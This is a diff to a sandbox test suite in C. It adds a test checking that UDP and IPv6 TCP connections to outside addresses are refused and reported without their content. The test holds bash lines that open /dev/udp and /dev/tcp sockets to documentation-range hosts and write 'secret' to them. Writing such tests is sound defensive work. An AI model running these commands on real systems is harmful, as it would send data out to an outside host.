@@ -379,6 +379,33 @@ static void redirects_dns(struct sandbox *sandbox)
           "DNS over TCP: %s", text_of(&over_tcp->streams[0]));
 }
 
+static bool contains(const struct bytes *bytes, const char *part, size_t length)
+{
+    return memmem(bytes->data, bytes->length, part, length) != NULL;
+}
+
+static void tells_of_refused_packets(struct sandbox *sandbox)
+{
+    static const char LINE[] = "\0CAPSEM_REFUSED:udp 203.0.113.9:443 1\n";
+    static const char LINE6[] = "\0CAPSEM_REFUSED:tcp [2001:db8::9]:443 1\n";
+    unsigned before = sandbox->stream_count;
+    struct run *twice = run(sandbox, ARGV("bash", "-c",
+                                          "exec 3<>/dev/udp/203.0.113.9/443; echo secret >&3; echo secret >&3; "
+                                          "sleep 0.3"));
+    CHECK(strstr(text_of(&twice->streams[1]), "not permitted") != NULL, "%s", text_of(&twice->streams[1]));
+    CHECK(sandbox->stream_count == before + 1, "%u reports", sandbox->stream_count - before);
+    CHECK(contains(&sandbox->last_stream, LINE, sizeof LINE - 1), "%.*s", (int)sandbox->last_stream.length,
+          (const char *)sandbox->last_stream.data + 1);
+    CHECK(!contains(&sandbox->last_stream, "secret", 6), "content is told");
+
+    struct run *six = run(sandbox, ARGV("bash", "-c", "exec 3<>/dev/tcp/2001:db8::9/443; true"));
+    CHECK(six->code != 0 || text_of(&six->streams[1])[0] != '\0', "IPv6 connects");
+    for (int i = 0; i < 100 && sandbox->stream_count < before + 2; i++)
+        sandbox_pump(sandbox, 10);
+    CHECK(contains(&sandbox->last_stream, LINE6, sizeof LINE6 - 1), "%.*s", (int)sandbox->last_stream.length,
+          (const char *)sandbox->last_stream.data + 1);
+}
+
 /* ---- confinement ------------------------------------------------------------------------------------------------ */
 
 static void denies_what_guests_must_not_do(struct sandbox *sandbox)
@@ -514,6 +541,7 @@ static int run_all(const char *agent, const char *probe)
     redirects_tcp(&sandbox);
     relays_both_ways_with_half_close(&sandbox);
     redirects_dns(&sandbox);
+    tells_of_refused_packets(&sandbox);
     denies_what_guests_must_not_do(&sandbox);
     print_latency(&sandbox);
     bounds_the_number_of_execs(&sandbox);
